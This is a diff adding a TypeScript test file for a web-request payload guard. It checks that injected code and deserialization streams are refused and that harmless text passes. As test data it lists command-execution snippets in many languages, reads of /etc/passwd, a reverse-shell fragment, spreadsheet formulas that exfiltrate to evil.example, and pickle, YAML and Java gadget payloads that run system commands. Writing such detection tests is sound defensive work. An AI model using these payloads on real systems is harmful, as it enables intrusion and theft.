@@ -1,0 +1,143 @@
+// Programs and serialised objects as values: code of a dozen languages, formulas, LaTeX, and streams that make objects of
+// what they are read into. What shows no more than a name, or data by itself, passes.
+
+import { deflateSync, gzipSync } from 'node:zlib'
+
+import { describe, expect, test } from 'vitest'
+
+import { payloadGuard } from '../corpora/guard.ts'
+import { exchangeOf, placements } from '../corpora/placements.ts'
+
+const judge = payloadGuard({})
+
+const isRefused = (place: string, text: string): boolean => {
+  const exchange = placements[place]?.(text).exchange
+  return exchange === undefined || judge(exchange).kind === 'deny'
+}
+
+const PLACES = ['query', 'json', 'form', 'multipart', 'xml', 'cookie']
+const missed = (text: string): readonly string[] => PLACES.filter((place) => !isRefused(place, text))
+
+const CODE: Readonly<Record<string, readonly string[]>> = {
+  PHP: [
+    "die(system('id'))",
+    "echo system('id');",
+    "array_filter(['id'],'system')",
+    "strrev('metsys')('id')",
+    '[phpinfo][0]()',
+    '(~%8F%97%8F%96%91%99%90)()',
+    '$_="_GET";$$_[0]($$_[1])',
+  ],
+  Python: [
+    '\nos.system("id")\n',
+    "type('',(),{})().__class__.__base__",
+    'x and eval(input())',
+    'import socket,subprocess,os;s=socket.socket()',
+    "print(open('/etc/passwd').read())",
+  ],
+  Ruby: ['Class.new.const_get(:Kernel)', 'Open3.capture2("id")', 'qx{id}'],
+  Node: [
+    '0||(function(){return process.env})()',
+    "Function('return this')()",
+    "global['process']['mainModule']",
+    "import('fs').then(x)",
+    'process.dlopen(x)',
+  ],
+  'Java, .NET': [
+    'new URL("http://evil.example").openStream()',
+    'new FileInputStream("/etc/passwd")',
+    '"".GetType().Assembly.GetType("x")',
+    'Server.Execute("x")',
+  ],
+  Lua: ['"..os.execute("id").."', 'os.getenv("PATH")', 'io.open("/etc/passwd"):read()'],
+  formulas: ["\t=cmd|'/C calc'!A0", '=IFERROR(HYPERLINK("http://evil.example?x="&A1),"")'],
+  LaTeX: ['\\input{/etc/passwd}', '\\immediate\\write18{id}', '\\input|id', '\\csname input\\endcsname{x}'],
+  'server pages': ['<%=CreateObject("Scripting.FileSystemObject").GetFolder(".")%>'],
+}
+
+describe('a program as a value is refused', () => {
+  const rows = Object.entries(CODE).flatMap(([language, list]) => list.map((text) => ({ language, text })))
+  test.each(rows)('$language: $text', ({ text }) => expect(missed(text)).toEqual([]))
+})
+
+const latin1 = (text: string): Uint8Array => Uint8Array.from(text, (character) => character.charCodeAt(0))
+const base64 = (bytes: Uint8Array): string =>
+  btoa(Array.from(bytes, (byte) => String.fromCharCode(byte)).join(''))
+const hex = (bytes: Uint8Array): string =>
+  Array.from(bytes, (byte) => byte.toString(16).padStart(2, '0')).join('')
+
+const java = (size: number): Uint8Array =>
+  Uint8Array.from([
+    ...latin1('\xac\xed\0\x05sr\0\x11java.util.HashMap'),
+    ...Array.from({ length: size }, (_, at) => (at * 37) % 251),
+  ])
+const pickle = (protocol: number, body: string): Uint8Array =>
+  latin1(String.fromCharCode(0x80, protocol) + body)
+const REDUCED = '\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.'
+const GLOBAL = 'cposix\nsystem\nq\0X\x02\0\0\0idq\x01\x85q\x02Rq\x03.'
+
+const STREAMS: Readonly<Record<string, string>> = {
+  'Java in gzip with fixed codes': base64(gzipSync(java(20))),
+  'Java in gzip with codes of its own': base64(gzipSync(java(3000))),
+  'Java in gzip, stored': base64(gzipSync(java(20), { level: 0 })),
+  'Java in zlib': base64(deflateSync(java(20))),
+  'Java in zlib for URLs': base64(deflateSync(java(60)))
+    .replaceAll('+', '-')
+    .replaceAll('/', '_')
+    .replaceAll('=', ''),
+  'Java in hexadecimal': `0x${hex(java(20))}`,
+  'a pickle of protocol 2': base64(pickle(2, GLOBAL)),
+  'a pickle of protocol 3': base64(pickle(3, GLOBAL)),
+  'a pickle of protocol 4': base64(pickle(4, `\x95\x1d\0\0\0\0\0\0\0${REDUCED}`)),
+  'a pickle of protocol 5 in hexadecimal': hex(pickle(5, `\x95\x1d\0\0\0\0\0\0\0${REDUCED}`)),
+  'a pickle of protocol 0 with INST': "(S'id'\nios\nsystem\n.",
+  'a pickle of protocol 0 in base64': btoa("(S'id'\nios\nsystem\n."),
+  'a class of Ruby': btoa('\x04\bc\bGem'),
+  'a tag of YAML by its whole name': '!<tag:yaml.org,2002:python/object/apply:os.system> [id]',
+  'a function of js-yaml': '!!js/function "function(){return 1}()"',
+  'a hint of .NET': '{"__type":"System.CodeDom.Compiler.TempFileCollection, System"}',
+  'an element of XStream':
+    '<java.util.PriorityQueue serialization="custom"><unserializable-parents/></java.util.PriorityQueue>',
+  'a pair of Jackson': '["org.apache.ibatis.datasource.jndi.JndiDataSourceFactory",{"properties":{}}]',
+}
+
+describe('a stream that makes objects is refused', () => {
+  test.each(Object.entries(STREAMS))('%s', (_, text) => expect(missed(text)).toEqual([]))
+
+  test.each(['java.net.URL', 'com.zaxxer.hikari.HikariConfig', 'LLcom.sun.rowset.JdbcRowSetImpl;;'])(
+    'the value of a type hint: %s',
+    (name) => {
+      const { exchange } = exchangeOf(
+        'POST',
+        '/v1/orders',
+        [['content-type', 'application/json']],
+        JSON.stringify({ note: { '@type': name, val: 'x' } }),
+      )
+      expect(exchange === undefined ? 'deny' : judge(exchange).kind).toBe('deny')
+      expect(isRefused('json', name)).toBe(/rowset/.test(name))
+    },
+  )
+})
+
+const HARMLESS: readonly string[] = [
+  'We call open() and print("x") in chapter two',
+  'const fs = require("fs")',
+  'print("hello")',
+  'os.path.join(a, b)',
+  '\\section{Intro} \\input{chapters/one} \\includegraphics[width=2cm]{img/a.png}',
+  'D:\\office\\new\\input',
+  '=SUM(A1:A9)',
+  '- call(ed) the shop',
+  base64(gzipSync(latin1('{"logGroup":"x","logEvents":[{"id":"1","message":"ok"}]}'.repeat(20)))),
+  base64(gzipSync(latin1('text'))),
+  base64(deflateSync(latin1('plain words, many of them'))),
+  '8002f1a9c3d7e5b2a8002f1a9c3d7e5b',
+  'gAKZ7f3kQm9xwT1vLr5yB8nH2cJ6dS4e',
+  'List<java.lang.String> of com.example.Order',
+  'com.example.orders.OrderService',
+  'java.util.ArrayList',
+]
+
+test.each(HARMLESS)('what makes nothing and runs nothing passes: %s', (text) => {
+  expect(['json', 'form', 'query'].filter((place) => isRefused(place, text))).toEqual([])
+})
